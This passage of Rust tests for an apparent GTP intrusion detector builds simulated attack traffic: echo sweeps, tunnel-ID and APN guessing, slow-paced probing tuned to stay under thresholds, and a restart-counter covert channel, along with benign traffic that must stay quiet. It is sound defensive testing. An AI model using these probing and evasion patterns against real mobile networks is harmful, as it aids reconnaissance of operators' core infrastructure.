    for (name, f) in [("ordered", &ordered), ("user plane", &user), ("v2", &v2)] {
        let a = run(no_policy(), f);
        let ev = only_finding(&a, 3026, name);
        assert_eq!(ev["sender"], "198.51.100.99", "{name}");
        assert_eq!(ev["destinations"], 32, "{name}");
    }
    // benign: a gateway carrying user plane echoes its 60 eNodeBs within a minute
    let gw = [203, 0, 113, 20];
    let mut frames = vec![
        gtpu_frame(0.5, gw, target(0), 0x10, user_dns_packet()),
        gtpu_frame(0.6, target(1), gw, 0x11, user_dns_packet()),
    ];
    for i in 0..60u32 {
        let ts = 1.0 + f64::from(i) * 0.9;
        frames.push(Frame::at(
            ts,
            udp(gw, target(i), GTPU, GTPU, &v1_echo(i as u16)),
        ));
        frames.push(Frame::at(
            ts + 0.01,
            udp(
                target(i),
                gw,
                GTPU,
                GTPU,
                &gtp_v1(
                    sigscope_gtp::v1::MsgType::ECHO_RESPONSE.0,
                    0,
                    Some(i as u16),
                    vec![],
                ),
            ),
        ));
    }
    assert!(findings(&run(no_policy(), &frames), 3026).is_empty());
    // a sweep paced under the minute's count (one address every 15 s, or every 70 s with
    // jitter) is found over the slow window (20 in an hour), its requests named with it
    for (gap, n) in [(15.0, 60u32), (70.0, 55)] {
        let slow: Vec<Frame> = (0..n)
            .map(|i| {
                let ts = 1.0 + f64::from(i) * gap * (1.0 + jitter(i, 7));
                echo_v1(ts, target(i), GTPC, i as u16)
            })
            .collect();
        let a = run(no_policy(), &slow);
        // found, and found again while it goes on once its tagging has run out (every
        // frame of a sweep of an hour is reported)
        let found: Vec<&Alert> = a
            .iter()
            .filter(|x| x.sig.id() == 3026 && !x.tagged)
            .collect();
        assert!(!found.is_empty(), "gap {gap}");
        assert!(
            found.iter().all(|x| x.evidence["pace"] == "slow"),
            "gap {gap}"
        );
        let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
        assert_eq!(reported, (1..=u64::from(n)).collect(), "gap {gap}");
    }
    // 40 addresses in an hour and a half (26 an hour) is a sweep too
    let paced: Vec<Frame> = (0..40)
        .map(|i| echo_v1(1.0 + f64::from(i) * 135.0, target(i), GTPC, i as u16))
        .collect();
    let a = run(no_policy(), &paced);
    assert!(!findings(&a, 3026).is_empty(), "paced");
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert_eq!(reported, (1..=40).collect(), "paced");
    // slower still (one address every 4 minutes), a handful of peers, and a monitor asking
    // its fixed list of 30 nodes every two minutes: quiet
    let slower: Vec<Frame> = (0..40)
        .map(|i| echo_v1(1.0 + f64::from(i) * 240.0, target(i), GTPC, i as u16))
        .collect();
    let few: Vec<Frame> = (0..200)
        .map(|i| echo_v1(1.0 + f64::from(i) * 0.3, target(i % 8), GTPC, i as u16))
        .collect();
    let monitor: Vec<Frame> = (0..1800)
        .map(|i| echo_v1(1.0 + f64::from(i) * 4.0, target(i % 30), GTPC, i as u16))
        .collect();
    for (name, f) in [("slower", &slower), ("few", &few), ("monitor", &monitor)] {
        let a = run(no_policy(), f);
        let found: Vec<String> = a
            .iter()
            .filter(|x| x.sig.id() == 3026 && !x.tagged)
            .map(|x| format!("{} {}", x.frame, x.evidence))
            .collect();
        assert!(found.is_empty(), "{name}: {found:?}");
    }
    // what a scanner sends claims no session: a G-PDU of its own, a Create answered with a
    // rejection (v1 cause 194, IMSI not known)
    let create = create_pdp_request(7, "234150000000001", "447700900555", ("", ""), scanner);
    let reject = gtp_v1(
        sigscope_gtp::v1::MsgType::CREATE_PDP_CONTEXT_RESPONSE.0,
        0,
        Some(7),
        vec![v1_ie(1, vec![194])],
    );
    let claims = [
        gtpu_frame(0.2, scanner, target(300), 0x99, user_dns_packet()),
        gtpc_frame(0.3, scanner, target(301), &create),
        gtpc_frame(0.35, target(301), scanner, &reject),
    ];
    let mut f = claims.to_vec();
    f.extend(ordered.iter().cloned());
    assert_eq!(findings(&run(no_policy(), &f), 3026).len(), 1);
    // the slower sweep is seen with a wider window
    let p = Policy::from_toml(
        "[thresholds]\ngtp_sweep_slow_window_s = 7200.0\ngtp_sweep_slow_destinations = 24\n",
    )
    .unwrap();
    let a = run(p, &slower);
    assert!(!findings(&a, 3026).is_empty());
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert_eq!(reported, (1..=40).collect(), "slower, wider window");
}

/// GTP tunnel probing (3027): one address answered "no such tunnel" again and again within a
/// minute while it carries no session — GTPv2 Delete Session (Context Not Found), GTPv1
/// Update PDP Context (Non-existent), G-PDUs to guessed TEIDs (Error Indication). A node in
/// sessions meeting stale tunnels after its peer restarted, a few stray answers and a slow
/// trickle stay quiet.
#[test]
fn gtp_tunnel_probing() {
    let prober = [198, 51, 100, 77];
    let sgw = [203, 0, 113, 40];
    let v2_cause = |c: u8| v2::IeRepr::raw(2, 0, vec![c, 0]);
    let v2_probe = |n: u32, start: f64, gap: f64, to: [u8; 4], from: [u8; 4]| -> Vec<Frame> {
        (0..n)
            .flat_map(|i| {
                let ts = start + f64::from(i) * gap;
                let teid = 0x1000_0000u32.wrapping_add(i.wrapping_mul(7919));
                [
                    gtpc_frame(ts, from, to, &gtp_v2(36, Some(teid), 0x500 + i, vec![])),
                    gtpc_frame(
                        ts + 0.01,
                        to,
                        from,
                        &gtp_v2(37, Some(0), 0x500 + i, vec![v2_cause(64)]),
                    ),
                ]
            })
            .collect()
    };
    let v1_probe: Vec<Frame> = (0..20u32)
        .flat_map(|i| {
            let ts = 1.0 + f64::from(i) * 0.2;
            [
                gtpc_frame(
                    ts,
                    prober,
                    PGW,
                    &gtp_v1(18, 0x2000 + i * 13, Some(i as u16), vec![]),
                ),
                gtpc_frame(
                    ts + 0.01,
                    PGW,
                    prober,
                    &gtp_v1(19, 0, Some(i as u16), vec![v1_ie(1, vec![192])]),
                ),
            ]
        })
        .collect();
    let user_probe: Vec<Frame> = (0..20u32)
        .flat_map(|i| {
            let ts = 1.0 + f64::from(i) * 0.1;
            let teid = 0x3000 + i * 101;
            let ind = gtp_v1(
                26,
                0,
                Some(i as u16),
                vec![
                    v1_ie(16, teid.to_be_bytes().to_vec()),
                    v1_ie(133, PGW.to_vec()),
                ],
            );
            [
                gtpu_frame(ts, prober, PGW, teid, user_dns_packet()),
                Frame::at(ts + 0.01, udp(PGW, prober, GTPU, GTPU, &ind)),
            ]
        })
        .collect();
    let v2 = v2_probe(20, 1.0, 0.5, PGW, prober);
    for (name, f) in [("v2", &v2), ("v1", &v1_probe), ("user plane", &user_probe)] {
        let a = run(no_policy(), f);
        let ev = only_finding(&a, 3027, name);
        assert_eq!(ev["prober"], "198.51.100.77", "{name}");
        assert_eq!(ev["answers"], 16, "{name}");
    }
    // a serving gateway in sessions (an accepted Create Session exchange) meets 30 stale
    // tunnels after its peer restarted
    let accepted = [
        gtpc_frame(0.1, sgw, PGW, &create_session_request(1, "234150000000009")),
        gtpc_frame(
            0.2,
            PGW,
            sgw,
            &gtp_v2(33, Some(0x77), 1, vec![v2_cause(16)]),
        ),
    ];
    let mut stale = accepted.to_vec();
    stale.extend(v2_probe(30, 1.0, 0.5, PGW, sgw));
    // ten stray answers; sixteen over ten minutes
    let stray = v2_probe(10, 1.0, 0.5, PGW, prober);
    let slow = v2_probe(16, 1.0, 40.0, PGW, prober);
    for (name, f) in [("stale", &stale), ("stray", &stray), ("slow", &slow)] {
        let a = run(no_policy(), f);
        assert!(findings(&a, 3027).is_empty(), "{name}: {:?}", ids(&a));
    }
    // paced under the minute's count: 30 probes at jittered gaps of 6 to 14 s; every probe
    // and answer is reported (the answers before the alert named with it, their requests
    // following, the prober's later probes tagged)
    let mut paced = Vec::new();
    let mut ts = 1.0;
    for i in 0..30u32 {
        ts += 10.0 + jitter(i, 5) * 20.0;
        let mut pair = v2_probe(1, ts, 1.0, PGW, prober);
        // a different guessed TEID and sequence number each time
        let teid = 0x2000_0000u32.wrapping_add(i.wrapping_mul(104_729));
        pair[0] = gtpc_frame(ts, prober, PGW, &gtp_v2(36, Some(teid), 0x900 + i, vec![]));
        pair[1] = gtpc_frame(
            ts + 0.01,
            PGW,
            prober,
            &gtp_v2(37, Some(0), 0x900 + i, vec![v2_cause(64)]),
        );
        paced.extend(pair);
    }
    let a = run(no_policy(), &paced);
    let ev = only_finding(&a, 3027, "paced");
    assert_eq!(ev["pace"], "slow");
    assert_eq!(ev["answers"], 24);
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    assert_eq!(
        reported,
        (1..=paced.len() as u64).collect(),
        "{:?}",
        ids(&a)
    );
}

/// Paced tunnel probing among a busy network's traffic: each probe's request is far older
/// than the messages remembered by flow when the alert comes, and is still reported with its
/// answer; the traffic between the probes is not.
#[test]
fn paced_probing_requests_reported_among_traffic() {
    let prober = [198, 51, 100, 78];
    let v2_cause = |c: u8| v2::IeRepr::raw(2, 0, vec![c, 0]);
    let mut frames = Vec::new();
    let mut probes = BTreeSet::new();
    let mut background = BTreeSet::new();
    let mut ts = 1.0;
    for i in 0..30u32 {
        ts += 10.0 + jitter(i, 5) * 20.0;
        let teid = 0x2100_0000u32.wrapping_add(i.wrapping_mul(104_729));
        // Delete Session (v2) and Update PDP Context (v1) guesses, alternately
        let (req, resp) = if i % 2 == 0 {
            (
                gtp_v2(36, Some(teid), 0x700 + i, vec![]),
                gtp_v2(37, Some(0), 0x700 + i, vec![v2_cause(64)]),
            )
        } else {
            (
                gtp_v1(18, teid, Some(0x700 + i as u16), vec![]),
                gtp_v1(19, 0, Some(0x700 + i as u16), vec![v1_ie(1, vec![192])]),
            )
        };
        frames.push(gtpc_frame(ts, prober, PGW, &req));
        probes.insert(frames.len() as u64);
        frames.push(gtpc_frame(ts + 0.01, PGW, prober, &resp));
        probes.insert(frames.len() as u64);
        // a subscriber's user plane between the gateways meanwhile
        for k in 0..40u32 {
            let t = ts + 0.5 + f64::from(k) * 0.2;
            frames.push(gtpu_frame(t, SGW, PGW, 0x55, user_dns_packet()));
            background.insert(frames.len() as u64);
            frames.push(gtpu_frame(t + 0.01, PGW, SGW, 0x56, user_dns_packet()));
            background.insert(frames.len() as u64);
        }
    }
    let a = run(no_policy(), &frames);
    let ev = only_finding(&a, 3027, "paced among traffic");
    assert_eq!(ev["pace"], "slow");
    assert_reported_whole(&a, &probes, &background);
}

/// APN guessing (3027): Creates from an address that carries no session, refused again and
/// again as "Missing or unknown APN" (GTPv1 cause 219), fast or paced over the hour: the
/// Creates and their refusals are reported. A subscriber's mistyped APN (refused twice, then
/// accepted) and a serving node in sessions whose devices keep a wrong APN stay quiet.
#[test]
fn apn_guessing() {
    let prober = [198, 51, 100, 95];
    let ggsn = [203, 0, 113, 9];
    let refuse = |seq: u16, cause: u8| {
        gtp_v1(
            sigscope_gtp::v1::MsgType::CREATE_PDP_CONTEXT_RESPONSE.0,
            0,
            Some(seq),
            vec![v1_ie(1, vec![cause])],
        )
    };
    let exchange = |ts: f64, from: [u8; 4], seq: u16, cause: u8| {
        let imsi = format!("23415{:010}", 1000 + u64::from(seq));
        [
            gtpc_frame(
                ts,
                from,
                ggsn,
                &create_pdp_request(seq, &imsi, "447700900555", ("", ""), from),
            ),
            gtpc_frame(ts + 0.02, ggsn, from, &refuse(seq, cause)),
        ]
    };
    for gap in [0.7, 45.0] {
        let frames: Vec<Frame> = (0..8u16)
            .flat_map(|i| exchange(1.0 + f64::from(i) * gap, prober, 0x300 + i, 219))
            .collect();
        let a = run(no_policy(), &frames);
        let ev = only_finding(&a, 3027, "apn guessing");
        assert_eq!(ev["guessing"], "apns", "gap {gap}");
        let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
        assert_eq!(reported, (1..=16).collect(), "gap {gap}");
    }
    // a mistyped APN, refused twice, then the right one accepted
    let mut typo: Vec<Frame> = (0..2u16)
        .flat_map(|i| exchange(1.0 + f64::from(i) * 20.0, prober, 0x400 + i, 219))
        .collect();
    typo.extend(exchange(60.0, prober, 0x402, 128));
    assert!(findings(&run(no_policy(), &typo), 3027).is_empty());
    // a serving node carrying sessions (user plane to it) whose devices keep a wrong APN
    let sgsn = [198, 18, 4, 20];
    let mut busy = vec![gtpu_frame(0.5, ggsn, sgsn, 0x77, user_dns_packet())];
    busy.extend((0..20u16).flat_map(|i| exchange(1.0 + f64::from(i) * 5.0, sgsn, 0x500 + i, 219)));
    assert!(findings(&run(no_policy(), &busy), 3027).is_empty());
}

/// A restart counter used as a channel: a peer in no session whose Echoes' Recovery goes back
/// and forth (two values as bits, three as trits) changes it again and again within the hour
/// (3025, `recovery_changes`), and the Echoes that changed it are reported with it; four
/// values within the hour are reported from any peer. One restart, restarts hours apart, a
/// peer in sessions with two stacks' counters behind its address, two nodes behind one NAT
/// address (a port and a counter each), and one socket answering two requesters' Echoes with
/// two counters (two numberings) stay quiet.
#[test]
fn a_restart_counter_that_goes_back_and_forth() {
    let echo = |ts: f64, src, seq: u32, rec: u8| {
        gtpc_frame(
            ts,
            src,
            PGW,
            &gtp_v1(1, 0, Some(seq as u16), vec![v1_ie(14, vec![rec])]),
        )
    };
    let session = gtpc_frame(0.5, SGW, PGW, &create_session_request(1, "234150123456789"));
    for (k, values) in [&[0x30u8, 0x31][..], &[7, 8, 9]].into_iter().enumerate() {
        let bits = noise(700 + k as u32, 60);
        let frames: Vec<Frame> = (0..60u32)
            .map(|i| {
                let b = bits.get(i as usize).copied().unwrap_or(0);
                let v = values
                    .get(usize::from(b) % values.len())
                    .copied()
                    .unwrap_or(0);
                echo(40.0 + f64::from(i) * 45.0, FOREIGN, i, v)
            })
            .collect();
        let a = run(no_policy(), &frames);
        let hits: Vec<&Alert> = a
            .iter()
            .filter(|x| x.sig.id() == 3025 && !x.tagged)
            .collect();
        assert!(!hits.is_empty(), "{values:?}: {:?}", ids(&a));
        assert_eq!(hits[0].evidence["field"], "recovery");
        assert!(hits[0].evidence["recovery_changes"].as_u64() >= Some(6));
        let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
        assert!(
            reported.len() * 10 >= frames.len() * 8,
            "{values:?}: {} of {} Echoes reported",
            reported.len(),
            frames.len()
        );
    }
    // four values within the hour, from a peer in sessions too
    let mut frames = vec![session.clone()];
    frames.extend((0..8u32).map(|i| echo(10.0 + f64::from(i) * 60.0, SGW, i, 1 + (i / 2) as u8)));
    assert!(ids(&run(no_policy(), &frames)).contains(&3025));
    // quiet: one restart; a restart every three hours; a peer in sessions alternating; two
    // nodes in no session behind one NAT address, each with its counter on its own port
    let nat = |i: u32| {
        let (port, rec) = if i % 2 == 0 {
            (GTPC, 3)
        } else {
            (31_877, 0xb6)
        };
        Frame::at(
            40.0 + f64::from(i) * 30.0,
            udp(
                FOREIGN,
                PGW,
                port,
                GTPC,
                &gtp_v1(1, 0, Some(i as u16), vec![v1_ie(14, vec![rec])]),
            ),
        )
    };
    // answers from one socket to two requesters' Echoes (two stacks' counters, each
    // answering its own numbering)
    let two_stacks = |i: u32| {
        let (seq, rec) = if i % 2 == 0 {
            (100 + i / 2, 3)
        } else {
            (5_000 + i / 2, 9)
        };
        gtpc_frame(
            40.0 + f64::from(i) * 30.0,
            FOREIGN,
            PGW,
            &gtp_v1(2, 0, Some(seq as u16), vec![v1_ie(14, vec![rec])]),
        )
    };
    let quiet: [Vec<Frame>; 5] = [
        (0..60u32).map(nat).collect(),
        (0..60u32).map(two_stacks).collect(),
        (0..40u32)
            .map(|i| echo(f64::from(i) * 60.0, FOREIGN, i, if i < 20 { 4 } else { 5 }))
            .collect(),
        (0..40u32)
            .map(|i| echo(f64::from(i) * 600.0, FOREIGN, i, (i / 18) as u8))
            .collect(),
        std::iter::once(session)
            .chain((0..40u32).map(|i| echo(1.0 + f64::from(i) * 60.0, SGW, i, 3 + (i % 2) as u8)))
            .collect(),
    ];
    for (k, frames) in quiet.iter().enumerate() {
        let a = run(no_policy(), frames);
        assert!(!ids(&a).contains(&3025), "quiet {k}: {:?}", ids(&a));
    }
}

/// A partner's gateway that carries sessions and guesses tunnel ids (3027): Modify Bearer
/// and Delete Session requests for ids no session seen set up or used, answered Context Not
/// Found, paced over twenty minutes. Each guess and its answer is reported, and nothing else
/// of the pair (its sessions, keepalives and user plane go on). Quiet: the same pace of
/// requests for tunnels its sessions set up or used before (stale after a loss of state),
/// and guesses met right after the answering node restarted (its Echo counter changed).
#[test]
fn a_session_partner_guessing_tunnel_ids() {
    let partner = [212, 183, 128, 71];
    let v2_cause = |c: u8| v2::IeRepr::raw(2, 0, vec![c, 0]);
    let echo = |ts: f64, seq: u32, rec: u8| {
        [
            gtpc_frame(
                ts,
                partner,
                PGW,
                &echo_request_v2(seq, vec![v2_recovery(9)]),
            ),
            gtpc_frame(
                ts + 0.01,
                PGW,
                partner,
                &gtp_v2(2, None, seq, vec![v2_recovery(rec)]),
            ),
        ]
    };
    // an accepted session of the partner's, user plane on it, and an Echo exchange
    let mut base = vec![
        gtpc_frame(
            0.1,
            partner,
            PGW,
            &create_session_request(1, "234150000000009"),
        ),
        gtpc_frame(
            0.2,
            PGW,
            partner,
            &gtp_v2(33, Some(0x77), 1, vec![v2_cause(16)]),
        ),
        gtpu_frame(0.5, partner, PGW, 0x20, user_dns_packet()),
    ];
    base.extend(echo(1.0, 0x10, 4));
    // requests for `teid(i)`, 30 of them over twenty minutes, each answered Context Not Found
    let campaign = |teid: &dyn Fn(u32) -> u32, from: usize| -> Vec<Frame> {
        (0..30u32)
            .flat_map(|i| {
                // 20 to 60 s apart, irregularly (no beacon)
                let ts = 10.0 + (0..=i).map(|k| 20.0 + f64::from(k * 37 % 41)).sum::<f64>();
                let ty = if i % 3 == 0 { 36 } else { 34 };
                let seq = 0x4000 + i;
                [
                    gtpc_frame(ts, partner, PGW, &gtp_v2(ty, Some(teid(i)), seq, vec![])),
                    gtpc_frame(
                        ts + 0.05,
                        PGW,
                        partner,
                        &gtp_v2(ty + 1, Some(0), seq, vec![v2_cause(64)]),
                    ),
                ]
            })
            .skip(from)
            .collect()
    };
    let guess = |i: u32| 0x4eb8_7987u32.wrapping_mul(i + 3).rotate_left(i % 13);
    let mut frames = base.clone();
    let first = frames.len() as u64 + 1;
    frames.extend(campaign(&guess, 0));
    // the pair's keepalives, sessions and user plane go on
    let mut quiet: BTreeSet<u64> = (1..first).collect();
    for k in 0..5u32 {
        frames.extend(echo(1400.0 + f64::from(k) * 60.0, 0x20 + k, 4));
        frames.push(gtpc_frame(
            1400.5 + f64::from(k) * 60.0,
            partner,
            PGW,
            &gtp_v2(34, Some(0x77), 0x6000 + k, vec![]),
        ));
        frames.push(gtpc_frame(
            1400.6 + f64::from(k) * 60.0,
            PGW,
            partner,
            &gtp_v2(35, Some(0x99), 0x6000 + k, vec![v2_cause(16)]),
        ));
        frames.push(gtpu_frame(
            1401.0 + f64::from(k) * 60.0,
            partner,
            PGW,
            0x20,
            user_dns_packet(),
        ));
    }
    let last_guess = first + 59;
    quiet.extend(last_guess + 1..=frames.len() as u64);
    let a = run(no_policy(), &frames);
    let first_alert = a
        .iter()
        .find(|x| x.sig.id() == 3027 && !x.tagged)
        .expect("partner guessing: 3027");
    assert_eq!(first_alert.evidence["prober"], "212.183.128.71");
    assert_eq!(first_alert.evidence["answers"], 24);
    let reported: BTreeSet<u64> = a.iter().map(|x| x.frame).collect();
    let loud: Vec<(u64, u32, bool)> = a
        .iter()
        .filter(|x| quiet.contains(&x.frame))
        .map(|x| (x.frame, x.sig.id(), x.tagged))
        .collect();
    let direct: Vec<(u64, u32, String)> = a
        .iter()
        .filter(|x| !x.tagged && x.sig.id() != 3027)
        .map(|x| (x.frame, x.sig.id(), x.evidence.to_string()))
        .collect();
    assert!(loud.is_empty(), "{loud:?} {direct:?}");
    // the alert comes once 24 guesses span five minutes: every guess from it on is reported
    // with its request, the earlier ones with the alert
    assert_eq!(reported, (first..=last_guess).collect(), "{:?}", ids(&a));

    // the same requests for tunnels set up by sessions seen (F-TEIDs of Creates) or used
    // before
    let known = |i: u32| 0x0100_0000 + i;
    let mut stale = base.clone();
    for i in 0..30u32 {
        let ts = 2.0 + f64::from(i) * 0.01;
        // half set up by Create Session Responses, half used by earlier Modify Bearers
        if i % 2 == 0 {
            let fteid = vec![0x87, 0, 0, 0, 0, PGW[0], PGW[1], PGW[2], PGW[3]];
            let mut v = fteid;
            v[1..5].copy_from_slice(&known(i).to_be_bytes());
            stale.push(gtpc_frame(
                ts,
                PGW,
                partner,
                &gtp_v2(
                    33,
                    Some(0x77),
                    0x100 + i,
                    vec![v2_cause(16), v2::IeRepr::raw(87, 1, v)],
                ),
            ));
        } else {
            stale.push(gtpc_frame(
                ts,
                partner,
                PGW,
                &gtp_v2(34, Some(known(i)), 0x100 + i, vec![]),
            ));
        }
    }
    stale.extend(campaign(&known, 0));
    // the answering node restarted (its Echo counter changed) before the guesses
    let mut restarted = base.clone();
    restarted.extend(echo(5.0, 0x11, 5));
    restarted.extend(campaign(&guess, 0));
    // the same 30 guesses within two and a half minutes (a node walking its table)
    let burst: Vec<Frame> = base
        .iter()
        .cloned()
        .chain((0..30u32).flat_map(|i| {
            let ts = 10.0 + f64::from(i) * 5.0;
            [
                gtpc_frame(
                    ts,
                    partner,
                    PGW,
                    &gtp_v2(36, Some(guess(i)), 0x4100 + i, vec![]),
                ),
                gtpc_frame(
                    ts + 0.05,
                    PGW,
                    partner,
                    &gtp_v2(37, Some(0), 0x4100 + i, vec![v2_cause(64)]),
                ),
            ]
        }))
        .collect();
    // the same guesses among twice as many of the partner's requests accepted (tunnels a
    // peer lost met one by one among the sessions that go on)
    let mut lazy = base.clone();
    for (k, f) in campaign(&guess, 0).into_iter().enumerate() {
        let ts = f.ts_nanos as f64 / 1e9;
        lazy.push(f);
        if k % 2 == 1 {
            for j in 0..2u32 {
                let seq = 0x7000 + k as u32 * 2 + j;
                let t = ts + 1.0 + f64::from(j);
                lazy.push(gtpc_frame(
                    t,
                    partner,
                    PGW,
                    &gtp_v2(34, Some(0x77), seq, vec![]),
                ));
                lazy.push(gtpc_frame(
                    t + 0.05,
                    PGW,
                    partner,
                    &gtp_v2(35, Some(0x99), seq, vec![v2_cause(16)]),
                ));
            }
        }
    }
    for (name, f) in [
        ("stale", &stale),
        ("after a restart", &restarted),
        ("burst", &burst),
        ("among accepted requests", &lazy),
    ] {
        let a = run(no_policy(), f);
        assert!(findings(&a, 3027).is_empty(), "{name}: {:?}", ids(&a));
    }
    // GTPv1: Update PDP Context requests for guessed tunnels, answered Non-existent
    let mut v1 = base.clone();
    for i in 0..30u32 {
        let ts = 10.0 + (0..=i).map(|k| 20.0 + f64::from(k * 37 % 41)).sum::<f64>();
        let seq = Some(0x300 + i as u16);
        v1.push(gtpc_frame(
            ts,
            partner,
            PGW,
            &gtp_v1(18, guess(i), seq, vec![]),
        ));
        v1.push(gtpc_frame(
            ts + 0.05,
            PGW,
            partner,
            &gtp_v1(19, 0, seq, vec![v1_ie(1, vec![192])]),
        ));
    }
    let a = run(no_policy(), &v1);
    assert!(!findings(&a, 3027).is_empty(), "v1: {:?}", ids(&a));
}
